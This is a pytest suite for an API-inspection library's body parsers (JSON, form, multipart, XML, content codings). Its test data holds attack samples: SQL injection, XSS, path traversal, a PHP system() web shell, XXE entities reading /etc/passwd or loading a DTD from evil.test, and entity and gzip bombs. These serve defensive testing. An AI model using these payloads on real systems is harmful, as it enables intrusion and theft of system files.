"""Body parsers: values and locations per media type, malformed bodies, limits."""

from __future__ import annotations

import gzip
import random
import zlib
from collections.abc import Callable

import orjson
import pytest

from apishield.findings import Source
from apishield.inputs import InputRejected, InputValue
from apishield.parsers import (
    FILE_PREVIEW_BYTES,
    _may_repeat_keys,
    body_inputs,
    decode_content,
    parse_header_parameters,
    plain_json_texts,
    walked_plain_json_texts,
)
from apishield.policy import Limits
from tests.support.speedups import speedups

plain_texts = speedups.plain_texts if speedups is not None else None

LIMITS = Limits()
Row = tuple[Source, str, str, str]


def _located(values: list[InputValue]) -> list[Row]:
    return [(v.location.source, v.location.name, v.raw, v.text) for v in values]


def _parse(body: bytes, content_type: str | None, limits: Limits = LIMITS) -> list[Row]:
    return _located(body_inputs(body, content_type, limits))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("application/json", ("application/json", {})),
        ("Application/JSON ; Charset=UTF-8", ("application/json", {"charset": "UTF-8"})),
        (
            'multipart/form-data; boundary="a;b \\"c\\""',
            ("multipart/form-data", {"boundary": 'a;b "c"'}),
        ),
        ('form-data; name=x; filename="a b"', ("form-data", {"name": "x", "filename": "a b"})),
        ("", ("", {})),
    ],
)
def test_parse_header_parameters(value: str, expected: tuple[str, dict[str, str]]) -> None:
    assert parse_header_parameters(value) == expected


def test_parse_header_parameters_rejects_repeats() -> None:
    with pytest.raises(ValueError, match="boundary"):
        parse_header_parameters("multipart/form-data; boundary=a; BOUNDARY=b")


JSON_CASES: list[tuple[bytes, list[Row]]] = [
    (
        b'{"name": "bob", "age": 7, "ok": true, "none": null}',
        [
            (Source.JSON_KEY, "/name", "name", "name"),
            (Source.JSON, "/name", "bob", "bob"),
            (Source.JSON_KEY, "/age", "age", "age"),
            (Source.JSON_KEY, "/ok", "ok", "ok"),
            (Source.JSON_KEY, "/none", "none", "none"),
        ],
    ),
    (
        b'{"a": {"b": ["x", {"c": "\\u003cscript\\u003e"}]}}',
        [
            (Source.JSON_KEY, "/a", "a", "a"),
            (Source.JSON_KEY, "/a/b", "b", "b"),
            (Source.JSON, "/a/b/0", "x", "x"),
            (Source.JSON_KEY, "/a/b/1/c", "c", "c"),
            (Source.JSON, "/a/b/1/c", "<script>", "<script>"),
        ],
    ),
    (
        b'{"a/b": "%252e%252e%252f", "m~n": "&#x3c;x&#62;"}',
        [
            (Source.JSON_KEY, "/a~1b", "a/b", "a/b"),
            (Source.JSON, "/a~1b", "%252e%252e%252f", "../"),
            (Source.JSON_KEY, "/m~0n", "m~n", "m~n"),
            (Source.JSON, "/m~0n", "&#x3c;x&#62;", "<x>"),
        ],
    ),
    (b'"just a string"', [(Source.JSON, "", "just a string", "just a string")]),
    (b"[1, 2.5, false]", []),
    (
        b'{"<k>": ""}',
        [(Source.JSON_KEY, "/<k>", "<k>", "<k>"), (Source.JSON, "/<k>", "", "")],
    ),
    # duplicate keys: every value is inspected, not only the last one
    (
        b'{"q": "1 OR 1=1", "q" : "safe"}',
        [
            (Source.JSON_KEY, "/q", "q", "q"),
            (Source.JSON, "/q", "1 OR 1=1", "1 OR 1=1"),
            (Source.JSON_KEY, "/q", "q", "q"),
            (Source.JSON, "/q", "safe", "safe"),
        ],
    ),
    # a key that ends in an escaped backslash is still counted as a key
    (
        b'{"k\\\\": "1 OR 1=1", "k\\\\": "safe"}',
        [
            (Source.JSON_KEY, "/k\\", "k\\", "k\\"),
            (Source.JSON, "/k\\", "1 OR 1=1", "1 OR 1=1"),
            (Source.JSON_KEY, "/k\\", "k\\", "k\\"),
            (Source.JSON, "/k\\", "safe", "safe"),
        ],
    ),
    # colons inside strings do not look like duplicates
    (
        b'{"at": "17:00", "url": "http://x"}',
        [
            (Source.JSON_KEY, "/at", "at", "at"),
            (Source.JSON, "/at", "17:00", "17:00"),
            (Source.JSON_KEY, "/url", "url", "url"),
            (Source.JSON, "/url", "http://x", "http://x"),
        ],
    ),
]


@pytest.mark.parametrize(("body", "expected"), JSON_CASES)
@pytest.mark.parametrize(
    "content_type",
    ["application/json", "application/vnd.api+json; charset=utf-8", "APPLICATION/JSON"],
)
def test_json(body: bytes, expected: list[Row], content_type: str) -> None:
    assert _parse(body, content_type) == expected


@pytest.mark.parametrize("content_type", ["application/json", None])
def test_json_with_a_byte_order_mark(content_type: str | None) -> None:
    assert _parse(b'\xef\xbb\xbf{"k": "v"}', content_type)[-1] == (Source.JSON, "/k", "v", "v")


def test_json_in_a_declared_charset() -> None:
    body = '{"k": "é<"}'.encode("utf-16")
    assert _parse(body, "application/json; charset=utf-16")[-1] == (
        Source.JSON,
        "/k",
        "é<",
        "é<",
    )


@pytest.mark.parametrize("content_type", [None, "text/plain", "application/octet-stream", "x/y"])
def test_json_is_sniffed_without_a_json_type(content_type: str | None) -> None:
    assert _parse(b'  {"q": "x"}', content_type) == [
        (Source.JSON_KEY, "/q", "q", "q"),
        (Source.JSON, "/q", "x", "x"),
    ]


TextReader = Callable[[bytes, Limits], "list[str] | None"]


def _scanned(body: bytes, limits: Limits) -> list[str] | None:
    return plain_texts(body, limits.max_depth, limits.max_params)


# Both ways to the texts of a plain JSON body: the C scanner (in a build that has it)
# and orjson's tree walked; each must give body_inputs' texts or None.
READERS: list[TextReader] = [walked_plain_json_texts] + ([_scanned] if plain_texts else [])
needs_scanner = pytest.mark.skipif(plain_texts is None, reason="built without the C scanner")


def _expected_texts(body: bytes, limits: Limits) -> list[str] | None:
    try:
        return [value.text for value in body_inputs(body, "application/json", limits)]
    except InputRejected:
        return None


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize(
    "body",
    [
        b'{"order_id": "ord_8f", "items": [{"sku": "A-1", "qty": 2}, "x y", null], "n": -1.5e3}',
        b'{"a": "x", "b": "y", "": ""}',  # empty strings kept, in order
        b'"alone"',
        b" [1, true, false, null, -0, 0.5, 1E+2, 2e-400, 123456789012345678901234567890]\n",
        b'{"k": "{[,]}:", "\x7f": []}',
        b"{}",
    ],
)
def test_plain_json_texts_are_the_texts_body_inputs_gives(read: TextReader, body: bytes) -> None:
    texts = read(body, LIMITS)
    assert texts is not None
    assert texts == _expected_texts(body, LIMITS)


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize(
    "body",
    [
        b'{"k": "a\\"b"}',  # an escape: quotes no longer delimit alone
        b'{"k": "50%"}',  # decoding would change the text
        b'{"k": "a&b"}',
        '{"k": "\u00e9"}'.encode(),
        b'\xef\xbb\xbf{"k": "v"}',
        b'{"k": "v"',  # invalid: body_inputs rejects it
        b'{"k": "a\tb"}',
        b"[1e400]",  # orjson rejects a number that overflows a double
        b"[01]",
        b"[1,]",
        b"[" * 33 + b"]" * 33,  # deeper than the limit allows
        b"[" + b"1," * 5000 + b"1]",  # more values than it allows
    ],
)
def test_plain_json_texts_leave_everything_else_to_body_inputs(
    read: TextReader, body: bytes
) -> None:
    assert read(body, LIMITS) is None


@pytest.mark.parametrize("content_type", ["text/plain", "application/json; charset=latin-1"])
def test_plain_json_texts_are_only_for_json_in_utf8(content_type: str) -> None:
    assert plain_json_texts(b'{"k": "v"}', "application/json", LIMITS) == ["k", "v"]
    assert plain_json_texts(b'{"k": "v"}', content_type, LIMITS) is None


@pytest.mark.parametrize("body", [b'{"a": "x", "a": "y"}', b'{"a": {"b": "x", "b": 1}}'])
def test_a_repeated_key_is_never_lost(body: bytes) -> None:
    assert walked_plain_json_texts(body, LIMITS) is None  # orjson kept only the last
    if plain_texts is not None:
        assert _scanned(body, LIMITS) == _expected_texts(body, LIMITS)


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize(
    ("body", "within"),
    [
        (b"[[1]]", True),
        (b"[[[1]]]", False),
        (b'{"a": {"b": "c"}}', True),
        (b'{"a": {"b": {"c": 1}}}', False),
        (b"[1, 2, 3]", True),
        (b"[1, 2, 3, 4]", False),
        (b'{"a": 1, "b": [2, "3"]}', True),
        (b'{"a": 1, "b": [2, "3", 4]}', False),
    ],
)
def test_plain_json_texts_stop_where_body_inputs_stops(
    read: TextReader, body: bytes, within: bool
) -> None:
    limits = Limits(max_depth=2, max_params=3)
    expected = _expected_texts(body, limits)
    assert (expected is not None) is within
    assert read(body, limits) == expected


_FUZZ_SEEDS = [
    b'{"id":"ord_8f","customer":{"id":1,"n":[1,2.5,-3e2,true,false,null,"x"]},"a":{},"b":[]}',
    b'[1, {"a": "b", "a": "c"}, [[["d"]]], 0, -0.0, 1E+2, 1e-400]',
    b' "s" ',
]
_FUZZ_BYTES = b'{}[]:," \t\n\r0123456789-+.eEtruefalsn%&\\\x7f\x1f\x80ab'


def _mutated(rng: random.Random, body: bytes) -> bytes:
    mutant = bytearray(body)
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(mutant) + 1)
        roll = rng.random()
        if roll < 0.4 and mutant:
            del mutant[min(at, len(mutant) - 1)]
        elif roll < 0.8:
            mutant[at:at] = bytes([rng.choice(_FUZZ_BYTES)])
        else:
            other = rng.randrange(len(mutant) + 1)
            mutant[at:at] = mutant[min(at, other) : max(at, other)][:20]
    return bytes(mutant)


@pytest.mark.parametrize("read", READERS)
def test_plain_json_texts_of_mutated_bodies_are_body_inputs_texts_or_none(
    read: TextReader,
) -> None:
    rng = random.Random(7)
    read_some = 0
    for _ in range(5000):
        body = _mutated(rng, rng.choice(_FUZZ_SEEDS))
        limits = Limits(max_depth=rng.choice([1, 2, 32]), max_params=rng.choice([3, 4096]))
        texts = read(body, limits)
        if texts is not None:
            read_some += 1
            assert texts == _expected_texts(body, limits), body
    assert read_some > 300  # not every mutant is refused


@needs_scanner
def test_the_scanner_checks_its_arguments() -> None:
    with pytest.raises(TypeError):
        plain_texts("{}", 1, 1)  # type: ignore[arg-type,misc]


def test_json_like_text_that_is_not_json_is_one_body_value() -> None:
    assert _parse(b"{not json", None) == [(Source.BODY, "", "{not json", "{not json")]


@pytest.mark.parametrize(
    ("body", "content_type", "check", "fragment"),
    [
        (b'{"a": ', "application/json", "parse.json", "not valid JSON"),
        (b"{'a': 1}", "application/json", "parse.json", "not valid JSON"),
        (b"NaN", "application/json", "parse.json", "not valid JSON"),
        (b'"\\ud800"', "application/json", "parse.json", "not valid JSON"),
        (b"\xff\xfe", "application/json", "parse.json", "not valid JSON"),
        (b"<a><b></a>", "application/xml", "parse.xml", "not valid XML"),
        (b"<a>&undefined;</a>", "text/xml", "parse.xml", "not valid XML"),
        (b"<a/>", "application/xml; charset=nonsense", "parse.xml", "not valid XML"),
        (b"x", "text/plain; charset=a; charset=b", "parse.content_type", "given twice"),
    ],
)
def test_malformed_bodies_are_rejected(
    body: bytes, content_type: str, check: str, fragment: str
) -> None:
    with pytest.raises(InputRejected) as caught:
        body_inputs(body, content_type, LIMITS)
    assert (caught.value.check, caught.value.status) == (check, 400)
    assert caught.value.location.source is Source.BODY
    assert fragment in caught.value.message


@pytest.mark.parametrize(
    ("body", "content_type", "limits", "check", "name"),
    [
        (b"[[[[1]]]]", "application/json", Limits(max_depth=3), "limits.depth", "/0/0/0"),
        (
            b'{"a":{"b":{"c":{}}}}',
            "application/json",
            Limits(max_depth=3),
            "limits.depth",
            "/a/b/c",
        ),
        (b"[" * 2000 + b"]" * 2000, "application/json", LIMITS, "limits.depth", ""),
        (b"[1, 2, 3, 4]", "application/json", Limits(max_params=3), "limits.params", ""),
        (b'{"a": [1, 2], "b": "x"}', None, Limits(max_params=2), "limits.params", ""),
        (
            b"a=1&b=2&c=3&d=4",
            "application/x-www-form-urlencoded",
            Limits(max_params=3),
            "limits.params",
            "",
        ),
        (b"<a><b><c><d/></c></b></a>", "text/xml", Limits(max_depth=3), "limits.depth", "/a/b/c/d"),
        (
            b'<a x="1" y="2"><b>t</b><c>u</c></a>',
            "text/xml",
            Limits(max_params=3),
            "limits.params",
            "/a/c",
        ),
    ],
)
def test_body_limits(
    body: bytes, content_type: str | None, limits: Limits, check: str, name: str
) -> None:
    with pytest.raises(InputRejected) as caught:
        body_inputs(body, content_type, limits)
    assert (caught.value.check, caught.value.status) == (check, 400)
    assert caught.value.location.name == name
    assert "more than" in caught.value.message or "deeper than" in caught.value.message


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            b"user=bob&q=1+OR+1%3D1&q=%253Cscript%253E&&empty=",
            [
                (Source.FORM_KEY, "user", "user", "user"),
                (Source.FORM, "user", "bob", "bob"),
                (Source.FORM_KEY, "q", "q", "q"),
                (Source.FORM, "q", "1+OR+1%3D1", "1 OR 1=1"),
                (Source.FORM_KEY, "q", "q", "q"),
                (Source.FORM, "q", "%253Cscript%253E", "<script>"),
                (Source.FORM_KEY, "empty", "empty", "empty"),
            ],
        ),
        (
            b"na%6De=caf%C3%A9&raw=\xc3\xa9",
            [
                (Source.FORM_KEY, "name", "na%6De", "name"),
                (Source.FORM, "name", "caf%C3%A9", "café"),
                (Source.FORM_KEY, "raw", "raw", "raw"),
                (Source.FORM, "raw", "\u00c3\u00a9", "é"),
            ],
        ),
    ],
)
def test_form(body: bytes, expected: list[Row]) -> None:
    content_type = "application/x-www-form-urlencoded; charset=UTF-8"
    assert _parse(body, content_type) == expected


def _multipart(*parts: bytes, boundary: bytes = b"B0und", newline: bytes = b"\r\n") -> bytes:
    body = b"preamble" + newline
    for part in parts:
        body += b"--" + boundary + newline + part.replace(b"\n", newline) + newline
    return body + b"--" + boundary + b"--" + newline + b"epilogue"


MULTIPART_TYPE = 'multipart/form-data; boundary="B0und"'


@pytest.mark.parametrize("newline", [b"\r\n", b"\n"])
def test_multipart(newline: bytes) -> None:
    body = _multipart(
        b'Content-Disposition: form-data; name="title"\n\nhello <b>\nsecond line',
        b'content-disposition: form-data; name="avatar"; filename="../../x.php"\n'
        b"Content-Type: image/png\n\n<?php system($_GET['c']); ?>",
        b"Content-Disposition: form-data; name=doc; filename*=UTF-8''%E2%82%ACa.txt\n"
        b"Content-Type: text/plain; charset=latin-1\n\n\xe9t\xe9",
        b'Content-Disposition: form-data; name="empty"\n\n',
        newline=newline,
    )
    nl = newline.decode()
    assert _parse(body, MULTIPART_TYPE) == [
        (Source.MULTIPART_NAME, "title", "title", "title"),
        (Source.MULTIPART, "title", f"hello <b>{nl}second line", f"hello <b>{nl}second line"),
        (Source.MULTIPART_NAME, "avatar", "avatar", "avatar"),
        (Source.MULTIPART_NAME, "avatar", "../../x.php", "../../x.php"),
        (
            Source.MULTIPART,
            "avatar",
            "<?php system($_GET['c']); ?>",
            "<?php system($_GET['c']); ?>",
        ),
        (Source.MULTIPART_NAME, "doc", "doc", "doc"),
        (Source.MULTIPART_NAME, "doc", "€a.txt", "€a.txt"),
        (Source.MULTIPART, "doc", "été", "été"),
        (Source.MULTIPART_NAME, "empty", "empty", "empty"),
    ]


def test_a_file_name_with_backslashes_is_inspected_as_sent_and_unescaped() -> None:
    body = _multipart(
        b'Content-Disposition: form-data; name="f"; filename="..\\1.7z"\n\nx',
        b'Content-Disposition: form-data; name="g"; filename="a\\"b"\n\ny',
        newline=b"\r\n",
    )
    names = [row[2] for row in _parse(body, MULTIPART_TYPE) if row[0] is Source.MULTIPART_NAME]
    assert names == ["f", "..1.7z", "..\\1.7z", "g", 'a"b', 'a\\"b']


def test_multipart_binary_files_are_previewed() -> None:
    content = b"<?php evil(); ?>" + b"\x89PNG" * FILE_PREVIEW_BYTES
    body = _multipart(
        b'Content-Disposition: form-data; name="f"; filename="a.png"\n'
        b"Content-Type: image/png\n\n" + content
    )
    values = body_inputs(body, MULTIPART_TYPE, LIMITS)
    assert values[-1].raw.startswith("<?php evil(); ?>")
    assert len(values[-1].raw) == FILE_PREVIEW_BYTES


def test_multipart_boundary_inside_content_does_not_split() -> None:
    body = _multipart(b'Content-Disposition: form-data; name="a"\n\nx --B0und y')
    assert _parse(body, MULTIPART_TYPE)[-1][2] == "x --B0und y"


@pytest.mark.parametrize(
    ("body", "content_type", "fragment"),
    [
        (b"--B0und\r\n\r\nx\r\n--B0und--", "multipart/form-data", "boundary"),
        (
            b"--B0und\r\n\r\nx\r\n--B0und--",
            "multipart/form-data; boundary=" + "b" * 201,
            "boundary",
        ),
        (
            b"--B0und\r\nContent-Disposition: form-data; name=a\r\n\r\nx\r\n",
            MULTIPART_TYPE,
            "no closing delimiter",
        ),
        (b"no parts at all", MULTIPART_TYPE, "no closing delimiter"),
        (
            b"--B0und\r\nContent-Disposition: form-data; name=a\r\n--B0und--",
            MULTIPART_TYPE,
            "no end of headers",
        ),
        (b"--B0undX\r\n\r\nx\r\n--B0und--", MULTIPART_TYPE, "delimiter line"),
        (
            b"--B0und\r\n" + b"X-H: 1\r\n" * 40 + b"\r\nx\r\n--B0und--",
            MULTIPART_TYPE,
            "too many headers",
        ),
        (
            b"--B0und\r\nContent-Disposition: form-data; name=a; name=b\r\n\r\nx\r\n--B0und--",
            MULTIPART_TYPE,
            "ambiguous",
        ),
    ],
)
def test_malformed_multipart_is_rejected(body: bytes, content_type: str, fragment: str) -> None:
    with pytest.raises(InputRejected) as caught:
        body_inputs(body, content_type, LIMITS)
    assert caught.value.check == "parse.multipart"
    assert fragment in caught.value.message


def test_multipart_part_count_is_limited() -> None:
    body = _multipart(*[b'Content-Disposition: form-data; name="p"\n\nv'] * 4)
    with pytest.raises(InputRejected) as caught:
        body_inputs(body, MULTIPART_TYPE, Limits(max_params=3))
    assert caught.value.check == "limits.params"


@pytest.mark.parametrize("content_type", ["application/xml", "text/xml", "application/soap+xml"])
def test_xml(content_type: str) -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<order id="7" note="&lt;b&gt;">\n'
        b"  <item>one</item>\n"
        b"  <item>%3Cscript%3E</item>\n"
        b"  <text>a <![CDATA[<x>]]> b<br/>c</text>\n"
        b"</order>"
    )
    assert _parse(body, content_type) == [
        (Source.XML, "/order/@id", "7", "7"),
        (Source.XML, "/order/@note", "<b>", "<b>"),
        (Source.XML, "/order/item", "one", "one"),
        (Source.XML, "/order/item[2]", "%3Cscript%3E", "<script>"),
        (Source.XML, "/order/text", "a <x> bc", "a <x> bc"),
    ]


@pytest.mark.parametrize(
    ("body", "doctype", "text"),
    [
        (
            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b"<r>&xxe;</r>",
            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            "&xxe;",
        ),
        (
            b'<!DOCTYPE r SYSTEM "http://evil.test/x.dtd"><r>a</r>',
            '<!DOCTYPE r SYSTEM "http://evil.test/x.dtd">',
            "a",
        ),
        (
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/p"> %p;]><r>b</r>',
            '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/p"> %p;]>',
            "b",
        ),
        (
            b'<!DOCTYPE r [<!ENTITY i "inner">]><r>x&i;</r>',
            '<!DOCTYPE r [<!ENTITY i "inner">]>',
            "x&i;",  # internal entities are not expanded into text either
        ),
    ],
)
def test_xml_doctype_is_exposed_and_entities_are_not_resolved(
    body: bytes, doctype: str, text: str
) -> None:
    assert _parse(body, "application/xml") == [
        (Source.XML, "!DOCTYPE", doctype, doctype),
        (Source.XML, "/r", text, text),
    ]


def test_xml_billion_laughs_is_rejected() -> None:
    entities = "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' if i else '<!ENTITY l0 "lol">' for i in range(10)
    )
    body = f'<!DOCTYPE r [{entities}]><r a="&l9;"/>'.encode()
    with pytest.raises(InputRejected) as caught:
        body_inputs(body, "application/xml", LIMITS)
    assert caught.value.check == "parse.xml"


@pytest.mark.parametrize(
    ("body", "content_type", "text"),
    [
        (b"hello %3Cscript%3E", "text/plain", "hello <script>"),
        (b"+ADw-script+AD4-", "text/plain; charset=utf-7", "<script>"),
        (b"caf\xe9", "text/plain; charset=ISO-8859-1", "café"),
        (b"caf\xc3\xa9 \xc0\xaf", None, "café /"),
        (b"x", "text/plain; charset=no-such-charset", "x"),
        (b"x", "text/plain; charset=base64", "x"),  # not a text encoding
        (b"<xml/>", "application/octet-stream", "<xml/>"),
    ],
)
def test_other_types_are_one_body_value(body: bytes, content_type: str | None, text: str) -> None:
    [(source, name, _, got)] = _parse(body, content_type)
    assert (source, name, got) == (Source.BODY, "", text)


def test_binary_bodies_are_previewed() -> None:
    body = b"GIF89a<script>" + b"\x00" * (2 * FILE_PREVIEW_BYTES)
    [value] = body_inputs(body, "image/gif", LIMITS)
    assert len(value.raw) == FILE_PREVIEW_BYTES
    assert value.text == "GIF89a<script>"


def test_empty_body_has_no_values() -> None:
    assert body_inputs(b"", "application/json", LIMITS) == []


def _random_body(rng: random.Random) -> bytes:
    seeds = [
        b'{"a": ["x", {"b": "%3c"}]}',
        b"a=1&b=%252e",
        b'<r x="1"><i>t</i></r>',
        b'--B\r\nContent-Disposition: form-data; name="n"\r\n\r\nv\r\n--B--\r\n',
    ]
    body = bytearray(rng.choice(seeds))
    for _ in range(rng.randint(0, 6)):
        position = rng.randint(0, len(body))
        body[position:position] = rng.randbytes(rng.randint(1, 4))
    return bytes(body)


@pytest.mark.parametrize(
    "content_type",
    [
        None,
        "application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=B",
        "application/xml",
        "text/plain; charset=utf-16",
        "text/plain; charset=\x00",
        ";;;=",
    ],
)
def test_fuzz_never_crashes(content_type: str | None) -> None:
    rng = random.Random(f"parsers-{content_type}")
    for _ in range(500):
        try:
            values = body_inputs(_random_body(rng), content_type, LIMITS)
        except InputRejected as rejected:
            assert rejected.status == 400
            continue
        for value in values:
            value.raw.encode("utf-8")
            value.text.encode("utf-8")


def test_large_json_document() -> None:
    document = {"items": [{"id": i, "name": f"n{i}"} for i in range(100)]}
    values = body_inputs(orjson.dumps(document), "application/json", LIMITS)
    assert len(values) == 1 + 100 * 3
    assert values[-1].location.name == "/items/99/name"


@pytest.mark.parametrize(
    ("document", "members", "repeats"),
    [
        (b'{"a": "{\\"x\\": 1, \\"y\\": 2}"}', 1, False),  # JSON sent as a string
        (b'{"a": 1, "a" : 2}', 1, True),
        (b'{"a": 1, "a"\n\t:2}', 1, True),  # any JSON whitespace before the colon
        (b'{"a":1,"a":2}', 1, True),
        (b'{"k\\\\": 1, "k\\\\": 2}', 1, True),  # keys ending in an escaped backslash
        (b'[{"a": 1}, {"b": "t:\\"q\\":"}]', 2, False),
    ],
)
def test_repeated_keys_are_counted_exactly(document: bytes, members: int, repeats: bool) -> None:
    assert _may_repeat_keys(document, members) is repeats


def _random_document(rng: random.Random, depth: int = 0) -> tuple[str, bool]:
    """A JSON text (objects may repeat a key) and whether some object repeats one."""
    alphabet = 'ab:"\\\\/ {}'
    if depth > 2 or rng.random() < 0.3:
        text = "".join(rng.choice(alphabet) for _ in range(rng.randrange(6)))
        return orjson.dumps(text).decode(), False
    keys = [rng.choice(["a", "b", 'a"', "a\\\\", ":", 'x":']) for _ in range(rng.randrange(4))]
    members, repeats = [], len(set(keys)) < len(keys)
    for key in keys:
        child, child_repeats = _random_document(rng, depth + 1)
        members.append(f"{orjson.dumps(key).decode()}{rng.choice(['', ' '])}:{child}")
        repeats = repeats or child_repeats
    return "{" + ",".join(members) + "}", repeats


def test_repeated_keys_are_never_missed() -> None:
    rng = random.Random(7)
    for _ in range(3000):
        text, repeats = _random_document(rng)
        data = text.encode()
        members = sum(len(obj) for obj in _objects(orjson.loads(data)))
        if repeats:
            assert _may_repeat_keys(data, members), text


def _objects(node: object) -> list[dict[str, object]]:
    if isinstance(node, dict):
        return [node, *(o for child in node.values() for o in _objects(child))]
    return []


_SQLI_JSON = b'{"q": "x\' OR 1=1--"}'


def _raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


@pytest.mark.parametrize(
    ("body", "coding"),
    [
        (gzip.compress(_SQLI_JSON), "gzip"),
        (gzip.compress(_SQLI_JSON), "X-GZip"),
        (zlib.compress(_SQLI_JSON), "deflate"),
        (_raw_deflate(_SQLI_JSON), "deflate"),  # what some clients send as deflate
        (gzip.compress(_SQLI_JSON[:9]) + gzip.compress(_SQLI_JSON[9:]), "gzip"),  # 2 members
        (gzip.compress(_SQLI_JSON) + b"\x00\x00", "gzip"),  # zero padding
        (gzip.compress(zlib.compress(_SQLI_JSON)), "deflate, gzip"),  # undone last first
        (gzip.compress(_SQLI_JSON), "identity, gzip"),
        (_SQLI_JSON, "identity"),
        (_SQLI_JSON, None),
    ],
)
def test_content_codings_are_undone(body: bytes, coding: str | None) -> None:
    assert decode_content(body, coding, LIMITS) == _SQLI_JSON


@pytest.mark.parametrize(
    ("body", "coding", "check", "status"),
    [
        (b"\x8b\x02\x80{}\x03", "br", "parse.content_encoding", 415),
        (b"plain text", "gzip", "parse.content_encoding", 400),
        (gzip.compress(_SQLI_JSON)[:-12], "gzip", "parse.content_encoding", 400),  # truncated
        (gzip.compress(_SQLI_JSON) + b"tail", "gzip", "parse.content_encoding", 400),
        (zlib.compress(_SQLI_JSON) + b"tail", "deflate", "parse.content_encoding", 400),
        (gzip.compress(b"\x00" * 10_000_000), "gzip", "limits.body_size", 413),  # a bomb
        (gzip.compress(b"a" * 600) * 2, "gzip", "limits.body_size", 413),  # members add up
    ],
)
def test_bad_content_codings_are_refused(body: bytes, coding: str, check: str, status: int) -> None:
    limits = Limits(max_body_bytes=1000)
    with pytest.raises(InputRejected) as raised:
        decode_content(body, coding, limits)
    assert (raised.value.check, raised.value.status) == (check, status)


@needs_scanner
def test_the_scanner_hands_out_a_recurring_short_text_once() -> None:
    first, second = (_scanned(b'{"status": "active"}', LIMITS) for _ in range(2))
    assert first == second == ["status", "active"]
    assert first is not None and second is not None
    assert all(a is b for a, b in zip(first, second, strict=True))  # its hash kept
    long_text = b'["' + b"x" * 65 + b'"]'
    assert _scanned(long_text, LIMITS) == ["x" * 65]


def test_content_types_are_remembered_but_an_ambiguous_one_is_refused_each_time() -> None:
    for _ in range(2):
        assert _parse(b'{"k": "v"}', "Application/JSON; charset=utf-8")[-1][2] == "v"
        with pytest.raises(InputRejected) as caught:
            body_inputs(b'{"k": "v"}', "application/json; charset=utf-8; charset=latin-1", LIMITS)
        assert caught.value.check == "parse.content_type"
    for index in range(300):  # more distinct values than it keeps: it starts over
        assert plain_json_texts(b'["v"]', f"application/json; x={index}", LIMITS) == ["v"]
